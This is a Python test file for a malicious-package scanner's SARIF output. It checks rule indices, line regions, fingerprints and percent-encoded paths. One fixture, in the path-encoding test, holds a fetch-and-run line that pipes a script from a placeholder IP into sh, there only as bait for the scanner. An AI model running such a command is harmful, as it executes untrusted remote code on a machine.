"""SARIF 2.1.0: rules, regions and fingerprints that are bound to the tree."""

from __future__ import annotations

from packages_of_ours import HONEST, MALICIOUS, package_of

from sigma_core.policy import load_policy
from sigma_core.sandbox.derive import derive_facts
from sigma_core.sandbox.sarif import to_sarif


def _run(name: str, **more: str) -> dict:
    files = {**MALICIOUS[name], **more}
    return to_sarif(derive_facts(package_of(files), load_policy()), "example", "1.0.0")["runs"][0]


def test_every_result_names_a_listed_rule_and_a_valid_region() -> None:
    run = _run("setup_first_script")
    rules = run["tool"]["driver"]["rules"]
    assert run["results"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        region = result["locations"][0]["physicalLocation"]["region"]
        assert 1 <= region["startLine"] <= region["endLine"]
        assert region.get("byteLength", 0) >= 0
        assert result["level"] in {"error", "warning", "note"}


def test_fingerprints_are_stable_unique_and_bound_to_the_tree() -> None:
    one = [result["partialFingerprints"]["sigmaFact/v1"] for result in _run("two_files")["results"]]
    again = [result["partialFingerprints"]["sigmaFact/v1"] for result in _run("two_files")["results"]]
    other = [
        result["partialFingerprints"]["sigmaFact/v1"] for result in _run("two_files", **{"NOTES.md": "x"})["results"]
    ]
    assert one == again
    assert len(set(one)) == len(one)
    assert not set(one) & set(other)


def test_clean_package_has_a_run_without_results() -> None:
    log = to_sarif(derive_facts(package_of(HONEST["documentation_only"]), load_policy()), "example", "1.0.0")
    assert log["version"] == "2.1.0"
    assert log["runs"][0]["results"] == []


def test_paths_are_percent_encoded() -> None:
    files = {"a b/ü#.sh": "curl -s http://198.51.100.9/a | sh\n"}
    run = to_sarif(derive_facts(package_of(files), load_policy()), "example", "1.0.0")["runs"][0]
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "a%20b/%C3%BC%23.sh"
